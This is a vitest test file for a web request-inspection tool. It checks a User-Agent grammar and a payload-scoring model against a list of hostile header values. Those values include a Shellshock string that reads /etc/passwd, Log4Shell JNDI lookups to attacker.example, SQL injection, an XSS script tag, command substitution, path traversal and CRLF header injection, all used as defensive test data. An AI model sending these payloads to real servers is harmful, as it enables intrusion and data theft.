import { describe, expect, it } from 'vitest';
import { recordToRawRequest } from '../../src/eval/record-request.js';
import { buildInspection } from '../../src/inspect/build-inspection.js';
import { createModelGate } from '../../src/model/gate.js';
import { loadPayloadModel } from '../../src/model/load.js';
import { isProductList, isUserAgentHeaderName } from '../../src/model/product-tokens.js';

const AGENTS = [
  'OpenAI/Python 1.57.0',
  'aws-cli/2.22.4 Python/3.12.6 Linux/6.8.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'HomeAssistant-iOS/2024.11 (io.robbie.HomeAssistant; build:2024.1101; iOS 18.1.1)',
  'Microsoft SignalR/8.0 (8.0.7; Unknown OS; Browser; Unknown Runtime Version)',
  'curl/8.5.0',
  'Go-http-client/1.1',
];

/** Agents outside the grammar: every injection through the header, and agents that carry an address. */
const OUTSIDE = [
  "() { :; }; /bin/bash -c 'cat /etc/passwd'",
  '${jndi:ldap://attacker.example/a}',
  '${${lower:j}ndi:dns://x.example/a}',
  "Mozilla/5.0' or sleep(5)#",
  "Mozilla/5.0'; DROP TABLE sessions; --",
  'Mozilla/5.0 <script>alert(1)</script>',
  'Mozilla/5.0 (X11; cat /etc/passwd)',
  'Mozilla/5.0 (X11; ../../etc)',
  'x/1 (a; b) | id',
  'x/1 $(id)',
  'x/1 `id`',
  'Mozilla/5.0 (a (b) c)',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'sqlmap/1.8 (https://sqlmap.org)',
  'Mozilla/5.0\r\nX-Injected: 1',
  'Mozilla/5.0 -- comment',
];

describe('isProductList', () => {
  it('takes agents written in the product and comment grammar', () => {
    for (const a of AGENTS) expect(isProductList(a), a).toBe(true);
  });

  it('leaves every agent outside the grammar to the screen and the model', () => {
    for (const a of OUTSIDE) expect(isProductList(a), a).toBe(false);
    expect(isProductList(`x/1 ${'(a) '.repeat(200)}`)).toBe(false); // over 512 characters
  });

  it('names the agent headers', () => {
    expect(['User-Agent', 'user-agent', 'X-SignalR-User-Agent'].every(isUserAgentHeaderName)).toBe(true);
    expect(['Referer', 'X-Forwarded-For', 'User-Agents', 'Agent'].some(isUserAgentHeaderName)).toBe(false);
  });
});

const model = await loadPayloadModel('models/payload-v1');

async function score(headers: Record<string, string>): Promise<number> {
  const inspection = buildInspection(recordToRawRequest({ id: 't', source: 'test', label: 'benign', category: 'test', method: 'POST', path: '/v1/chat/completions', query: '', headers: { Host: 'api.example.com', ...headers } }));
  return (await createModelGate(model).evaluate(inspection, { hits: [], candidates: 0 })).maxScore;
}

describe('the shipped model behind the agent grammar', () => {
  it("does not score an SDK's agent, and still scores injections through the same header", async () => {
    expect(await score({ 'User-Agent': 'OpenAI/Python 1.57.0' })).toBeLessThan(model.threshold);
    // The same text in another header is judged as before.
    expect(await score({ 'X-Note': 'OpenAI/Python 1.57.0' })).toBeGreaterThanOrEqual(model.threshold);
    for (const a of ["() { :; }; /bin/bash -c 'cat /etc/passwd'", '${jndi:ldap://attacker.example/a}', "Mozilla/5.0' or sleep(5)#", 'Mozilla/5.0 <script>alert(1)</script>']) {
      expect(await score({ 'User-Agent': a }), a).toBeGreaterThanOrEqual(model.threshold);
    }
  });
});
